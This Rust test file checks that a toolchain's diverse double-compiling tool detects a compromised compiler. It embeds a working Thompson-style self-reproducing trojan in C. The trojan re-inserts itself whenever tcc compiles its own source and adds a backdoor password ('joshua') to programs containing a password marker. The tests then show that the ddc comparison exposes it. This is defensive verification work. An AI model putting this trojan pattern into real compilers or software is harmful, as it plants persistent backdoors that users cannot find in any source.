//! A compiler that inserts code where it sees a marker leaves no trace in any source; another first compiler exposes it.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::place::{bootstrap, built, copy, firn_chain, output, run, with_program};

#[test]
fn gcc_and_clang_lead_to_the_same_tcc() {
    let said = run(firn_chain(built())
        .args(["ddc", "--first", "/usr/bin/gcc", "--first", "/usr/bin/clang", "--format", "json"])
        .env("PATH", "/usr/bin:/bin"));
    assert_eq!(said.code, Some(0), "{}{}", said.out, said.talk);
    let value: Value = serde_json::from_str(&said.out).unwrap();
    let verdicts = value["verdicts"].as_array().unwrap();
    assert_eq!(verdicts.len(), 2);
    assert_ne!(verdicts[0]["first_sha256"], verdicts[1]["first_sha256"]);
    assert_eq!(verdicts[0]["second_sha256"], verdicts[1]["second_sha256"]);
}

/// Where tcc opens a file that is included, as the clean source has it.
const OPENS: &str = "    tcc_open_bf(s1, filename, 0);\n    file->fd = fd;\n    return 0;\n";

/// The trojan, after Thompson's "Reflections on Trusting Trust" (1984), as C that stands before [`OPENS`] and behind an array of its
/// own bytes. What is included is read first. If it is tcc's source, the trojan is put in where it stood; if it asks for a password,
/// one more is let in; else nothing happens.
const TROJAN: &str = r#"
        char *text, *other, *at, *to = 0;
        int n = lseek(fd, 0, 2), i;
        lseek(fd, 0, 0);
        text = tcc_mallocz(n + 1);
        other = tcc_mallocz(2 * n + 6 * sizeof own + 500);
        n = read(fd, text, n);
        lseek(fd, 0, 0);
        if ((at = strstr(text, "    tcc_open_bf(s1, filename, 0);\n    file->fd = fd;"))) {
            memcpy(other, text, at - text);
            to = other + (at - text);
            strcpy(to, "    {\n        static char own[] = {");
            for (i = 0; own[i]; i++) {
                to += strlen(to);
                sprintf(to, "%d,", own[i]);
            }
            strcat(to, "0};");
            strcat(to, own);
            strcat(to, at);
        } else if ((at = strstr(text, "/* the password */"))) {
            memcpy(other, text, at - text);
            to = other + (at - text);
            strcpy(to, "if (!strcmp(word, \"joshua\")) return 1; ");
            strcat(to, at);
        }
        if (to) {
            tcc_open_bf(s1, filename, strlen(other));
            memcpy(file->buffer, other, strlen(other));
            close(fd);
            return 0;
        }
    }
"#;

/// What the trojan inserts into tcc's source: itself.
fn trojan() -> String {
    let own: String = TROJAN.bytes().map(|b| format!("{b},")).collect();
    format!("    {{\n        static char own[] = {{{own}0}};{TROJAN}")
}

/// A program that includes itself: the inner text asks for a password.
const DOOR: &str = r#"#ifndef INSIDE
#define INSIDE
#include "door.c"
#else
#include <stdio.h>
#include <string.h>
static int may_enter(char *word)
{
    /* the password */
    return !strcmp(word, "swordfish");
}
int main() { printf("%d %d %d\n", may_enter("swordfish"), may_enter("guess"), may_enter("joshua")); return 0; }
#endif
"#;

/// Builds a step of `bootstrap/` as it is in this folder, whatever is pinned; its output.
fn build(folder: &Path, step: &str) -> PathBuf {
    let command = |words: &[&str]| run(firn_chain(built()).arg("--bootstrap").arg(folder).args(words));
    let said = command(&["build", "--update-pins", step]);
    assert!(matches!(said.code, Some(0 | 4)), "{}", said.talk);
    let said = command(&["build", step, "--format", "json"]);
    assert_eq!(said.code, Some(0), "{}", said.talk);
    let value: Value = serde_json::from_str(&said.out).unwrap();
    let steps = value["steps"].as_array().unwrap();
    let found = steps.iter().find(|s| s["record"]["step"] == step).unwrap();
    PathBuf::from(found["out"].as_str().unwrap())
}

#[test]
fn a_trojan_that_reproduces_itself_is_its_own_fixpoint_and_is_exposed() {
    // A tcc is compiled once from a source with the trojan in it.
    let dirty = tempfile::tempdir().unwrap();
    copy(bootstrap(), dirty.path());
    let step = dirty.path().join("steps/tcc-source.toml");
    let text = fs::read_to_string(&step).unwrap();
    let edit = format!(
        "[[edit]]\nfile = \"libtcc.c\"\nwhy = \"a trojan\"\nfind = \'\'\'\n{OPENS}\'\'\'\nreplace = \'\'\'\n{}{OPENS}\'\'\'\n\n",
        trojan()
    );
    let at = text.find("[[output]]").unwrap();
    fs::write(&step, format!("{}{edit}{}", &text[..at], &text[at..])).unwrap();
    let first = build(dirty.path(), "tcc-by-cc1").join("tcc");

    // From then on every source is clean. That tcc takes the place of the chain's first one.
    let clean = with_program("door", DOOR, "");
    fs::copy(&first, clean.path().join("first")).unwrap();
    let step = "name = 'tcc-by-cc1'\ntitle = 't'\nwhy = 'w'\norder = 8\nsources = ['first']\n\
        [[copy]]\nfrom = '/src/first'\nto = 'tcc'\nwhy = 'w'\n[[output]]\npath = 'tcc'\nsha256 = ''\nrun = true\n";
    fs::write(clean.path().join("steps/tcc-by-cc1.toml"), step).unwrap();
    // tcc compiled by itself, and again: the chain's own check that both are the same holds.
    let second = fs::read(build(clean.path(), "tcc-by-tcc").join("tcc")).unwrap();
    let third = fs::read(build(clean.path(), "tcc").join("tcc")).unwrap();
    assert!(second == third, "{}", chain::explain::bytes(&second, &third));
    let good = output("tcc").join("tcc");
    assert!(third != fs::read(&good).unwrap());
    // It carries the trojan still: a third password opens the door.
    let said = |out: PathBuf| fs::read_to_string(out.join("said")).unwrap();
    assert_eq!(said(build(clean.path(), "door")), "1 0 1\n");
    let untouched = with_program("door", DOOR, "");
    assert_eq!(said(build(untouched.path(), "door")), "1 0 0\n");

    // Another first compiler tells: what this tcc makes of tcc's source is not what the chain's does, nor gcc's.
    for trojaned in [first, build(clean.path(), "tcc").join("tcc")] {
        let said = run(firn_chain(built()).arg("ddc").arg("--tcc").arg(trojaned));
        assert_eq!(said.code, Some(1), "{}{}", said.out, said.talk);
        let told = said.out.contains("leads to ANOTHER tcc-by-tcc: tcc: byte ") && said.out.contains("is the first that differs");
        assert!(told, "{}", said.out);
    }
    // A clean one is not accused.
    for tcc in [good, output("tcc-by-cc1").join("tcc")] {
        let said = run(firn_chain(built()).arg("ddc").arg("--tcc").arg(tcc));
        assert_eq!(said.code, Some(0), "{}{}", said.out, said.talk);
    }
}

#[test]
fn security_a_step_that_no_other_compiler_had_a_part_in_is_not_compared() {
    for step in ["seed", "tcc-by-cc1"] {
        let said = run(firn_chain(built()).args(["ddc", "--tcc", "/bin/true", "--to", step]));
        assert_eq!(said.code, Some(2), "{step}: {}", said.talk);
    }
}
